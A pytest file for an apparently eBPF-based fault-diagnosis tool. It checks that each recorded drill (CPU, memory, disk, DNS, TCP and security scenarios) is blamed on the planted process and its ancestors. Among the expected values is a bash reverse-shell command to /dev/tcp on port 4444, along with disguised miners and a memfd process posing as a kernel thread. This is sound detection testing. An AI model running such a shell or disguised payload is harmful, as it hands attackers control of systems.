"""Each bundled fault is laid at the door of who was planted: what the drill's script starts, opens, mounts or asks.

The expected values are read off scenarios/*/reproduce.sh and what lies in quiet/ beside it. Numbers that another run
would give anew (pids, loop devices, shares of time, places in stripped programs) stand here as N.
"""

from __future__ import annotations

import re
from dataclasses import fields
from typing import NamedTuple

import pytest

import santabpf as sb
from santabpf.recording import Recording
from santabpf.shipped import shipped
from santabpf.verdict import Culprit, Verdict

ROOM = shipped("recordings")
FIRED = sorted(
    path.parent.name
    for path in ROOM.glob("*/recording.json")
    if sb.open(path.parent).info["drill"]["expected"] == "fired"
)
DRILL = "santabpf-drill"
SH = "/bin/sh /tmp/drill/reproduce.sh"
#: What another run numbers anew.
COUNTED = re.compile(r"(?<=pid )\d+|(?<=thread )\d+|(?<=loop)\d+|(?<=device 0:)\d+|(?<=device 7:)\d+|(?<=port )3\d{4}")
MEASURED = re.compile(r"\d+(\.\d+)?(?= s of| %)|(?<=\+0x)[0-9a-f]+")


class Planted(NamedTuple):
    """line: who is named, and those above, the nearest first; facts: all that the culprit is to say besides."""

    line: str
    facts: dict[str, str]
    evidence: str = "ancestry"


def program(process: str, command: str, parent: str, line: str, **facts: str) -> Planted:
    """A process, with what else is known of it."""
    return Planted(line, {"process": process, "command": command, "parent": parent} | facts)


def waits(process: str, command: str, **facts: str) -> Planted:
    """A program that the cell starts itself."""
    return program(process, command, f"{DRILL} (pid N)", f"python3 {DRILL}", **facts)


def apache(variant: str) -> Planted:
    facts = {"file": "/tmp/drill/apache.conf", "listener": "127.0.0.1:18080"}
    line, parent = f"apache2 reproduce.sh {DRILL}", f"{SH} {variant} 8 (pid N)"
    return program("apache2 (pid N)", "apache2 -D FOREGROUND -f /tmp/drill/apache.conf", parent, line, **facts)


def sshd(variant: str) -> Planted:
    command = "'sshd: /usr/sbin/sshd -D -e -f /tmp/drill/sshd_config [listener] 0 of 100-100 startups'"
    facts = {"peer": "127.0.0.66", "listener": "127.0.0.1 port 2222"}
    return program("sshd (pid N)", command, f"{SH} {variant} 8 (pid N)", f"sshd reproduce.sh {DRILL}", **facts)


BILLING = "/bin/sh ./billing-service --config billing.conf"
INTRUDER = {"peer": "127.0.0.1 port 4444"}
DISK = {"mount": "/tmp/drill/data (ext4 on loopN, device 7:N)"}
UPDATE = "python3 (pid N): /usr/bin/python3 update.py"
PLANTED = {
    "accept_queue": apache("workers"),
    "accept_queue_overflow": apache("overflow"),
    "cpu_saturation": program(
        "hog", "python3 quiet/service.py 8 1 20 8 0", "python3 quiet/service.py 8 1 20 8 0 (pid N)", f"python3 {DRILL}"
    ),
    "cpu_saturation_crowd": program(
        "service", "python3 quiet/service.py 8 12 15 0 0", "python3 quiet/service.py 8 12 15 0 0 (pid N)",
        f"python3 {DRILL}",
    ),
    "cpu_steal_synthetic": Planted("", {}),  # the host
    "cpu_throttling": program(
        "sha256sum (pid N)", "sha256sum /dev/zero", "timeout 10 sha256sum /dev/zero (pid N)",
        f"sha256sum timeout reproduce.sh {DRILL}",
    ),
    "cpu_throttling_bursts": waits("python3 (pid N)", "python3 quiet/service.py 44 320 10"),
    "cpu_usage": program(
        "sha256sum (pid N)", "sha256sum /dev/zero", "resize-images (pid N)",
        f"sha256sum timeout resize-images resize-images {DRILL}",
    ),
    "crash_loop": program("billing-service", BILLING, "supervise (pid N)", f"supervise {DRILL}"),
    "crash_loop_segfault": program("billing-service", BILLING, "supervise (pid N)", f"supervise {DRILL}"),
    "disk_full": waits(
        "python3 (pid N)", "python3 quiet/spool.py write /tmp/drill/spool 8", file="/tmp/drill/spool/log",
        mount="/tmp/drill/spool (tmpfs on tmpfs, device 0:N)",
    ),
    "disk_full_inodes": waits(  # 64 inodes: root, log, mail-0 to mail-61; who only named a path tells no mount
        "python3 (pid N)", "python3 quiet/spool.py make /tmp/drill/spool 8", file="/tmp/drill/spool/mail-62",
        mount="that of /tmp/drill/spool/mail-62",
    ),
    "event_loop_blocked": program(
        "python3 (pid N, thread N)", "python3 quiet/server.py sleep 10", "python3 quiet/server.py sleep 10 (pid N)",
        f"python3 python3 {DRILL}", function="the system call clock_nanosleep (N s of its long ticks)",
    ),
    "event_loop_blocked_asyncio_compute": program(
        "python3 (pid N, thread N)", "python3 quiet/server.py compute 10", "python3 quiet/server.py compute 10 (pid N)",
        f"python3 python3 {DRILL}",
        function="python3.11+0xN in /usr/bin/python3.11 (N % of the CPU time in its long ticks)",
    ),
    "event_loop_blocked_redis_lua": program(  # redis-server is a link to redis-check-rdb in Debian
        "redis-server (pid N, thread N)", "'redis-server 127.0.0.1:16379'", f"{SH} redis-lua 10 (pid N)",
        f"redis-server reproduce.sh {DRILL}",
        function="redis-check-rdb+0xN in /usr/bin/redis-check-rdb (N % of the CPU time in its long ticks)",
    ),
    "fd_exhaustion": waits("python3 (pid N)", "python3 quiet/service.py open 8", file="/usr/bin/env"),
    "fd_exhaustion_accept": waits("python3 (pid N)", "python3 quiet/service.py accept 10", listener="port N"),
    "memory_usage": program(
        "session-store (pid N)", "/usr/bin/python3 ./session-store 147 147 10", f"{SH} held 10 (pid N)",
        f"session-store reproduce.sh {DRILL}",
    ),
    "memory_usage_creeping": program(
        "session-store (pid N)", "/usr/bin/python3 ./session-store 139 149 10", f"{SH} creeping 10 (pid N)",
        f"session-store reproduce.sh {DRILL}",
    ),
    "oom_kill": program(
        "report-builder (pid N)", "/usr/bin/python3 ./report-builder 0.04 8", "reproduce.sh (pid N)",
        f"reproduce.sh {DRILL}",
    ),
    "oom_kill_again": program(
        "report-builder (pid N)", "/usr/bin/python3 ./report-builder 0.02 8", "supervise (pid N)", f"supervise {DRILL}"
    ),
    "page_cache_thrash": program(
        "archive-search (pid N)", "/usr/bin/python3 ./archive-search squeezed 10", f"{DRILL} (pid N)",
        f"archive-search {DRILL}", file="archive.db (inode 12 on device 7:N)",
    ),
    "privilege_escalation": program(
        ".helper (pid N)", "stash/.helper -p -c 'id; id -u; ps'", "visitor (pid N): /bin/sh ./visitor",
        f"visitor reproduce.sh {DRILL}", file="/tmp/drill/stash/.helper",
    ),
    "privilege_escalation_disguise": program(
        "python3 (pid N)", "/usr/bin/python3 miner.py", f"reproduce.sh (pid N): {SH} disguise 8",
        f"reproduce.sh {DRILL}", file="/usr/bin/python3",
    ),
    "privilege_escalation_memfd": program(
        "memfd:update (pid N)", "'[kworker/0:9]' 0.5", "python3 (pid N): /usr/bin/python3 loader.py",
        f"python3 reproduce.sh {DRILL}", file="/memfd:update",
    ),
    "privilege_escalation_temporary": program(
        "xmr (pid N)", "/tmp/drill/.cache/xmr 0.5", "python3 (pid N): /usr/bin/python3 worker.py",
        f"python3 reproduce.sh {DRILL}", file="/tmp/drill/.cache/xmr",
    ),
    "reverse_shell": program(
        "bash (pid N)", "bash -i", "bash (pid N): bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
        f"bash report-app {DRILL}", **INTRUDER,
    ),
    "reverse_shell_pty": program("bash (pid N)", "/bin/bash", UPDATE, f"python3 report-app {DRILL}", **INTRUDER),
    "reverse_shell_python": program("sh (pid N)", "/bin/sh -i", UPDATE, f"python3 report-app {DRILL}", **INTRUDER),
    "short_lived_jobs": program(
        "billing-service", BILLING, "/bin/sh ./supervise 10 (pid N)", f"supervise {DRILL}",
        starter="supervise (pid N): /bin/sh ./supervise 10",
    ),
    "short_lived_jobs_cron": program(
        "gzip", "gzip -9", "/bin/sh ./rotate-logs (5 processes)", f"minicron {DRILL}",
        starter="minicron (pid N): /bin/sh ./minicron 10",
    ),
    "slow_dns": waits("python3 (pid N) waits most", "python3 quiet/names.py slow 8", peer="127.0.0.1 port 53"),
    "slow_dns_lossy": waits("python3 (pid N) waits most", "python3 quiet/names.py lossy 8", peer="127.0.0.1 port 53"),
    "slow_fsync": waits(
        "python3 (pid N, thread N), which waits", "python3 quiet/disk.py device 10", file="/orders/journal", **DISK
    ),
    "slow_fsync_neighbour": program(
        "python3 (pid N)", "/usr/bin/python3 /tmp/drill/quiet/backup.py neighbour /tmp/drill/data/backup 10",
        "python3 quiet/disk.py neighbour 10 (pid N)", f"python3 python3 {DRILL}", file="/backup/archive", **DISK,
    )._replace(evidence="writer_ancestry"),
    "ssh_brute_force": sshd("guess"),
    "ssh_brute_force_success": sshd("success"),
    "tcp_loss": waits(
        "python3 (pid N) has the connections", "python3 quiet/link.py lossy 8", peer="198.51.100.2 port 8080"
    ),
    "tcp_loss_gone": waits(
        "python3 (pid N) has the connections", "python3 quiet/link.py gone 8", peer="198.51.100.2 port 8080"
    ),
}  # fmt: skip


def judged(name: str) -> tuple[Recording, Verdict, Culprit]:
    recording = sb.open(ROOM / name)
    (verdict,) = sb.replay(recording, [recording.info["drill"]["scenario"]]).verdicts
    assert verdict.culprit is not None
    return recording, verdict, verdict.culprit


def told(culprit: Culprit) -> dict[str, str]:
    """All that it says but for its sentence and its cgroup, without what another run numbers anew."""
    said = {f.name: getattr(culprit, f.name) for f in fields(culprit) if f.name not in ("text", "cgroup", "evidence")}
    return {name: MEASURED.sub("N", COUNTED.sub("N", value)) for name, value in said.items() if value}


def test_for_each_recording_of_a_fault_it_is_written_down_who_was_planted() -> None:
    assert sorted(PLANTED) == FIRED


@pytest.mark.parametrize("name", FIRED)
def test_the_culprit_is_who_was_planted_with_all_those_above_in_the_cell_s_own_cgroup(name: str) -> None:
    recording, verdict, culprit = judged(name)
    planted = PLANTED[name]
    assert told(culprit) == planted.facts
    if planted.line:
        line = verdict.find(planted.evidence)
        who = [dict(zip(line.columns, row, strict=True)) for row in line.rows]
        assert " ".join(str(row["comm"]) for row in who) == planted.line
        assert re.search(r".+".join(rf"\b{row['comm']} \({row['tgid']}\b" for row in who[1:]), culprit.text)
        assert culprit.cgroup == "/" + "/".join(recording.info["scope"]["cgroup"].split("/")[-2:])
    else:
        assert culprit.cgroup == ""


@pytest.mark.parametrize("name", [name for name in FIRED if "(pid N" in PLANTED[name].facts.get("process", "")])
def test_the_pid_that_is_named_is_one_that_ran_that_program(name: str) -> None:
    recording, _, culprit = judged(name)
    found = re.match(r"(.+) \(pid (\d+)", culprit.process)
    assert found
    ran = {
        row["comm"]
        for table in ("exec", "processes", "exit", "fork", "security")
        if table in recording.tables
        for row in recording[table].arrow().to_pylist()
        if row["tgid"] == int(found[2])
    }
    assert found[1] in ran


def test_the_port_without_descriptors_is_the_one_at_which_connections_wait() -> None:
    recording, _, culprit = judged("fd_exhaustion_accept")
    ports = set(recording["accept_waiting"].df().local_port)
    assert {culprit.listener} == {f"port {port}" for port in ports}
